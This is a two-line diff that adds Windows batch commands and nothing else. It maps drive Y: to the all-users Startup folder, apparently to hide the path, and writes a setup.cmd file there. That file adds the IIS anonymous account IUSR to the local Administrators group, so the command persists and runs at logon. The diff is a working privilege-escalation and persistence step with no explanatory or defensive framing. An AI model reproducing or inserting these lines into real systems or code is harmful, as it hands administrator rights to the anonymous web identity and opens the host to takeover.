@@ -1,0 +1,2 @@
+subst Y: "C:\ProgramData\Microsoft\Windows\Start Menu\Programs\StartUp"
+echo net localgroup Administrators IUSR /add > Y:\setup.cmd
